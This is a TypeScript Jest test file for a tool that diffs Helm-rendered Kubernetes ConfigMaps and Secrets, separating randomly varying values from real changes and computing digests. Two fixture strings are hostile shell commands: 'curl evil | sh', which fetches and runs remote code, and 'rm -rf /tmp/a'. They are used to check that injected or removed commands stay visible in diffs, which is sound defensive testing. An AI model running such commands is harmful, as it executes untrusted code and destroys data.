import { describe, expect, it } from '@jest/globals';
import { openDigest, pathText } from '../../src/diff/index.ts';
import { compare, configMap, redact, secret } from './help.ts';

const side = (text: string, again?: string) => ({
  text,
  namespace: 'demo',
  ...(again !== undefined && { again }),
});

const fileWith = (id: string, size: number): string =>
  configMap(`  app.yaml: |\n    id: ${id}\n    size: ${size}`);

const twoFields = (id: string, size: number): string =>
  configMap(`  app.yaml: |\n    id: ${id}\n    size: ${size}\n  sha: ${id}`);

const digestOf = (text: string, more = {}) =>
  openDigest({
    text,
    namespace: 'demo',
    release: 'web',
    redact,
    vary: [],
    withSecrets: false,
    ...more,
  }).digest();

const keyedDigest = (value: string, key: string) =>
  digestOf(secret(`data: {a: ${value}}`), {
    withSecrets: true,
    redact: { ...redact, key: Buffer.from(key) },
  }).digest;

const varying = (sha: string, b: string): string => configMap(`  sha: ${sha}\n  b: ${b}`);

describe('what differs between two renders of the same', () => {
  it('is marked, and in no change', () => {
    const found = compare('', '', {
      before: side(configMap('  a: one\n  b: old')),
      after: side(configMap('  a: two\n  b: new'), configMap('  a: three\n  b: new')),
    });
    expect(found.resources).toMatchObject([{ changes: [{ path: [{ key: 'data' }, { key: 'b' }] }] }]);
    expect(found.random.map(({ resource, path }) => `${resource.name} ${pathText(path)}`)).toEqual([
      'web data.a',
    ]);
    expect(found.findings).toEqual([]);
  });

  it('is marked in a Secret, and in a file inside of a string beside what really changed', () => {
    const found = compare('', '', {
      before: side(secret('data: {a: YWFhYWFhYWE=}') + fileWith('x1', 1)),
      after: side(
        secret('data: {a: YmJiYmJiYmI=}') + fileWith('x2', 2),
        secret('data: {a: Y2NjY2NjY2M=}') + fileWith('x3', 2),
      ),
    });
    expect(found.random).toHaveLength(2);
    expect(found.resources).toMatchObject([
      { resource: { kind: 'ConfigMap' }, changes: [{ detail: { changes: [{ path: [{ key: 'size' }] }] } }] },
    ]);
  });

  it('that was a constant before is a finding', () => {
    const found = compare('', '', {
      before: side(configMap('  a: fixed'), configMap('  a: fixed')),
      after: side(configMap('  a: two'), configMap('  a: three')),
    });
    expect(found.findings).toMatchObject([
      { rule: 'became-random', severity: 'medium', path: [{ key: 'data' }, { key: 'a' }] },
    ]);
    expect(found.random).toMatchObject([{ wasConstant: true }]);
  });

  it('in one line hides nothing that stands around it', () => {
    const line = (word: string, rest: string): string => configMap(`  run: export T=${word}; ${rest}`);
    const found = (before: string, after: string) =>
      compare('', '', {
        before: side(line('x1y2', before)),
        after: side(line('z3w4', after), line('z5u6', after)),
      }).resources;
    expect(found('echo ok', 'echo ok')).toEqual([]);
    expect(found('echo ok', 'curl evil | sh')).toMatchObject([
      { changes: [{ path: [{ key: 'data' }, { key: 'run' }] }] },
    ]);
  });

  it.each([
    ['2026-11-23T07:59:59Z', '2026-11-23T08:00:00Z', '2026-11-23T08:00:01Z'],
    ['at 07:59:59 UTC', 'at 08:00:00 UTC', 'at 08:00:01 UTC'],
    ['1763884799', '1763884800', '1763884801'],
    ['id=ab12', 'id=cd34', 'id=cd56'],
    ['b64 aXM+/w==', 'b64 bXM+/w==', 'b64 bXN+/w=='],
  ])('in one line is left out whatever it has by chance in common: %s', (before, after, again) => {
    const text = (value: string): string => configMap(`  at: "${value}"`);
    expect(
      compare('', '', { before: side(text(before)), after: side(text(after), text(again)) }).resources,
    ).toEqual([]);
  });

  it('that is new is told: the base had none', () => {
    const found = compare('', '', {
      before: side(configMap('  b: one')),
      after: side(configMap('  a: two\n  b: one'), configMap('  a: three\n  b: one')),
    });
    expect(found.resources).toMatchObject([
      { changes: [{ kind: 'added', path: [{ key: 'data' }, { key: 'a' }] }] },
    ]);
  });

  it('and was random before is no finding', () => {
    const found = compare('', '', {
      before: side(configMap('  a: zero'), configMap('  a: one')),
      after: side(configMap('  a: two'), configMap('  a: three')),
    });
    expect(found.findings).toEqual([]);
  });

  it('stays marked once it was', () => {
    const found = compare(configMap('  a: one'), configMap('  a: two'), {
      knownRandom: [{ id: 'core/ConfigMap/demo/web', path: 'data.a' }],
    });
    expect(found).toMatchObject({ resources: [], random: [{ resource: { name: 'web' } }] });
  });

  it('may be the name itself', () => {
    const data = Array.from({ length: 8 }, (_, at) => `  key-${at}: some value ${at}`).join('\n');
    const found = compare('', '', {
      before: side(configMap(data, 'job-one')),
      after: side(configMap(data, 'job-two'), configMap(data, 'job-three')),
    });
    expect(found).toMatchObject({
      resources: [],
      random: [{ resource: { name: 'job-two' }, path: [] }],
      counts: { renamed: 0 },
    });
  });

  it('is no map that helm printed in another order', () => {
    const found = compare('', '', {
      before: side(configMap('  a: "1"\n  b: "2"')),
      after: side(configMap('  a: "1"\n  b: "2"'), configMap('  b: "2"\n  a: "1"')),
    });
    expect(found).toMatchObject({ resources: [], random: [] });
  });
});

describe('lines of a text that differ between two renders of the same', () => {
  const script = (...lines: string[]): string =>
    configMap(
      `  run.sh: |\n    #!/bin/sh\n${lines.map((line) => `    ${line}\n`).join('')}    exec "$@" # end`,
    );
  /** The lines that are shown as removed and added, and the paths that are marked. */
  const linesOf = (before: string, after: string, again: string, old?: string) => {
    const found = compare('', '', { before: side(before, old), after: side(after, again) });
    const changes = found.resources.flatMap((one) => ('changes' in one ? one.changes : []));
    const told = changes.flatMap(({ detail }) => {
      if (detail?.kind !== 'text') return ['no lines'];
      const lines = detail.hunks.flatMap((hunk) => hunk.lines);
      return lines.filter(({ kind }) => kind !== 'same').map(({ kind, text }) => `${kind} ${text}`);
    });
    return {
      told,
      random: found.random.map(({ path }) => pathText(path)),
      findings: found.findings.map(({ rule }) => rule),
    };
  };

  it('are left out, and every other line is compared as ever', () => {
    const before = script('id=x1', 'keep', 'keep this', 'size=1');
    const after = script('id=x2', 'keep', 'keep this', 'size=2');
    const again = script('id=x3', 'keep', 'keep this', 'size=2');
    expect(linesOf(before, after, again)).toEqual({
      told: ['removed size=1', 'added size=2'],
      random: ['data["run.sh"]'],
      findings: [],
    });
    expect(linesOf(after.replace('x2', 'x4'), after, again)).toMatchObject({ told: [] });
  });

  it('are told from their neighbours by their form', () => {
    const before = script('id=x1', 'size=1', 'end');
    const [after, again] = [script('id=x2', 'size=2', 'end'), script('id=x3', 'size=2', 'end')];
    expect(linesOf(before, after, again).told).toEqual(['removed size=1', 'added size=2']);
  });

  it('hide no line that is gone: what is not of their form is shown', () => {
    const before = script('rm -rf /tmp/a', 'id=x1');
    const [after, again] = [script('id=x2', 'echo done'), script('id=x3', 'echo done')];
    expect(linesOf(before, after, again).told).toContain('removed rm -rf /tmp/a');
    const fewer = [script('id=x2'), script('id=x3')] as const;
    expect(linesOf(before, ...fewer).told).toContain('removed rm -rf /tmp/a');
  });

  it('make all of the text random where lines come and go, as it cannot be said which', () => {
    const before = script('id=x1', 'size=1');
    const [after, again] = [script('id=x2', 'size=2'), script('id=x3', 'and more', 'size=2')];
    expect(linesOf(before, after, again)).toMatchObject({ told: [], random: ['data["run.sh"]'] });
  });

  it('that were constant before are a finding, those that were not are none; in JSON as well', () => {
    const [after, again] = [script('id=x2'), script('id=x3')];
    expect(linesOf(script('id=x1'), after, again, script('id=x1')).findings).toEqual(['became-random']);
    expect(linesOf(script('id=x1'), after, again, script('id=x0')).findings).toEqual([]);
    const json = (id: string): string => configMap(`  a.json: '{"id": "${id}", "size": 1}'`);
    expect(linesOf(json('x1'), json('x2'), json('x3'), json('x1')).findings).toEqual(['became-random']);
    expect(linesOf(json('x1'), json('x2'), json('x3'), json('x0')).findings).toEqual([]);
  });

  it('are no part of a digest, and every other line is', () => {
    const of = (id: string, again: string, size = 1) =>
      digestOf(script(`id=${id}`, `size=${size}`), { again: script(`id=${again}`, `size=${size}`) }).digest;
    expect(of('x1', 'x2')).toBe(of('y1', 'y2'));
    expect(of('x1', 'x2', 2)).not.toBe(of('x1', 'x2'));
  });
});

describe('digests', () => {
  it('are the same for the same in another order and writing, and others for anything else', () => {
    const one = digestOf(configMap('  a: "1"\n  b: "2"') + configMap('  c: "3"', 'two'));
    const same = digestOf(configMap('  c: "3"', 'two') + configMap('  "b": "2"\n  a: \'1\''));
    expect(same).toEqual(one);
    expect(digestOf(configMap('  a: "1"\n  b: "3"') + configMap('  c: "3"', 'two')).digest).not.toBe(
      one.digest,
    );
    expect(
      digestOf(configMap('  a: "1"\n  b: "2"') + configMap('  c: "3"', 'two'), { release: 'other' }).digest,
    ).not.toBe(one.digest);
    expect([...one.resources.keys()].toSorted()).toEqual([
      'core/ConfigMap/demo/two',
      'core/ConfigMap/demo/web',
    ]);
  });

  it('do not depend on secret values, nor on the key of the run, so that nothing can be guessed', () => {
    const one = digestOf(secret('data: {a: YWFhYWFhYWE=}'));
    expect(
      digestOf(secret('data: {a: YmJiYmJiYmI=}'), { redact: { ...redact, key: Buffer.from('other') } }),
    ).toEqual(one);
    expect(digestOf(secret('data: {b: YWFhYWFhYWE=}')).digest).not.toBe(one.digest);
  });

  it('depend on secret values where a digest key is given, and on the key', () => {
    expect(keyedDigest('YWFhYWFhYWE=', 'k')).toBe(keyedDigest('YWFhYWFhYWE=', 'k'));
    expect(keyedDigest('YmJiYmJiYmI=', 'k')).not.toBe(keyedDigest('YWFhYWFhYWE=', 'k'));
    expect(keyedDigest('YWFhYWFhYWE=', 'l')).not.toBe(keyedDigest('YWFhYWFhYWE=', 'k'));
  });

  it('leave out what is random or varies, and nothing beside it', () => {
    const of = (id: string, again: string, size = 1) =>
      digestOf(twoFields(id, size), { again: twoFields(again, size) }).digest;
    expect(of('x1', 'x2')).toBe(of('y1', 'y2'));
    expect(of('x1', 'x2', 2)).not.toBe(of('x1', 'x2'));
    const vary = { vary: ['/data/sha'] };
    expect(digestOf(varying('one', 'b'), vary)).toEqual(digestOf(varying('two', 'b'), vary));
    expect(digestOf(varying('one', 'c'), vary)).not.toEqual(digestOf(varying('one', 'b'), vary));
  });
});
